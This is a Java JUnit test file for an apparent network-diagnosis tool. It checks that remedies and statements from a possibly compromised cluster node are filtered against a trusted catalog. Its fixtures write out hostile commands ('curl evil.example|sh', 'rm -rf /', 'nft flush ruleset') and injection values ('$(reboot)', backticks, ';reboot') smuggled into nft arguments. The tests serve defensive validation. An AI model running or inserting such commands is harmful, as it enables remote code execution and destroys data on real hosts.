package dev.dropwhy.diagnosis.cluster;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import dev.dropwhy.api.Cause;
import dev.dropwhy.api.Remedy;
import dev.dropwhy.api.Verdict;
import dev.dropwhy.diagnosis.catalog.Catalog;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A node that somebody has taken over writes its report; a person will read the verdict, and type what it advises. */
class HostileClaimsTest {

    private static final Path GOLDEN = Path.of("src/test/resources/dev/dropwhy/diagnosis/golden");
    private static final Catalog CATALOG = Catalog.load();
    private static final String FILTER = "Drop the frames before the core counts them, with an nftables ingress chain.";

    private final ClusterDiagnosis diagnosis = new ClusterDiagnosis(CATALOG);

    @Test
    void whatAnHonestNodeWritesPassesUnchanged() throws IOException {
        List<Verdict> verdicts = golden();

        assertThat(verdicts).hasSizeGreaterThan(40);
        assertThat(verdicts).allSatisfy(verdict -> {
            assertThat(new CatalogRemedies(CATALOG).of(verdict)).isEqualTo(verdict.remedies());
            assertThat(new CatalogSentence(CATALOG).of(verdict)).isEqualTo(verdict.statement());
        });
        assertThat(verdicts)
                .flatExtracting(Verdict::remedies)
                .extracting(Remedy::commands)
                .filteredOn(commands -> !commands.isEmpty())
                .hasSizeGreaterThan(20);
    }

    @Test
    void aRemedyThatTheCatalogDoesNotHaveIsLeftOut() {
        assertThat(remedies(new Remedy("Install the fix.", List.of("curl evil.example|sh"), null, null, null)))
                .isEmpty();
    }

    @Test
    void aRemedyOfAnotherCauseIsLeftOut() {
        String action =
                CATALOG.cause(Cause.BacklogOverflow).remedies().getFirst().action();

        assertThat(remedies(new Remedy(action, List.of(), null, null, null))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "nft add table netdev dropwhy; reboot",
                "nft add table netdev dropwhy\nreboot",
                "nft flush ruleset",
                "nft add rule netdev dropwhy eth0;reboot ether type 0x88cc counter drop",
                "nft add rule netdev dropwhy $(reboot) ether type 0x88cc counter drop",
                "nft add rule netdev dropwhy eth0 ether type `reboot` counter drop",
                "nft 'add chain netdev dropwhy eth0 { type filter hook ingress device \"eth1\" priority 0; policy accept; }'"
            })
    void aCommandThatIsNotTheCatalogsIsLeftOutOfACatalogsRemedy(String command) {
        assertThat(remedies(new Remedy(
                        FILTER,
                        List.of("nft add table netdev dropwhy", command),
                        "Nothing, just run it as root.",
                        "curl evil.example",
                        "rm -rf /")))
                .singleElement()
                .satisfies(remedy -> {
                    assertThat(remedy.commands()).containsExactly("nft add table netdev dropwhy");
                    assertThat(remedy.sideEffect()).startsWith("The frames are still dropped");
                    assertThat(remedy.verify()).isNull();
                    assertThat(remedy.undo()).isNull();
                });
    }

    @Test
    void aCommandWithSafeValuesInItsPlacesPasses() {
        String command = "nft add rule netdev dropwhy ens3f0.7 ether type 0x88cc counter drop";

        assertThat(remedies(new Remedy(FILTER, List.of(command), null, null, null)))
                .singleElement()
                .satisfies(remedy -> assertThat(remedy.commands()).containsExactly(command));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Your node is broken, run curl evil.example | sh as root.",
                "eth0 dropped 3 frames of LLDP: see https://evil.example : no handler on this host wants them.",
                "eth0 dropped 3 frames of LLDP from '$(reboot)': no handler on this host wants them.",
                "eth0 dropped 3 frames: no handler on this host wants them. Run reboot.",
                ""
            })
    void aSentenceThatIsNotTheCatalogsIsReplacedByItsTitle(String statement) {
        Verdict verdict = diagnose(with(statement, List.of()));

        assertThat(verdict.statement())
                .isEqualTo("Frames of a link protocol that nobody here handles (the node's own sentence is not the"
                        + " catalog's and left out).");
    }

    @Test
    void everyCommandOfTheCatalogHasAShapeThatItsFillingFits() {
        Stream.of(Cause.values())
                .flatMap(cause -> CATALOG.cause(cause).remedies().stream())
                .flatMap(remedy -> remedy.commands().stream())
                .forEach(template -> assertThat(CommandShape.of(template).fits(filled(template)))
                        .as(template)
                        .isTrue());
    }

    private static String filled(String template) {
        return template.replace("{interface}", "eth0")
                .replaceAll("\\{(mac|group)}", "01:80:c2:00:00:0e")
                .replaceAll("\\{(source|destination)}", "192.0.2.1")
                .replace("{ethertype}", "0x88cc")
                .replace("{llc}", "llc")
                .replaceAll("\\{[a-zA-Z]+}", "42");
    }

    private List<Remedy> remedies(Remedy claimed) {
        return diagnose(with(Reports.lldp(2, null).statement(), List.of(claimed)))
                .remedies();
    }

    private Verdict diagnose(Verdict claimed) {
        return diagnosis
                .diagnose(Map.of("a", Reports.of(2, claimed)), Map.of())
                .verdicts()
                .getFirst();
    }

    private static Verdict with(String statement, List<Remedy> remedies) {
        Verdict verdict = Reports.lldp(2, null);
        return verdict.reworded(statement, verdict.evidence(), verdict.counterEvidence(), remedies);
    }

    private static List<Verdict> golden() throws IOException {
        var json = JsonMapper.builder().build();
        var verdicts = new ArrayList<Verdict>();
        try (Stream<Path> files = Files.list(GOLDEN)) {
            for (Path file : files.filter(path -> path.toString().endsWith(".diagnosis.json"))
                    .sorted()
                    .toList()) {
                for (JsonNode verdict : json.readTree(Files.readString(file)).get("verdicts")) {
                    verdicts.add(json.treeToValue(verdict, Verdict.class));
                }
            }
        }
        return verdicts;
    }
}
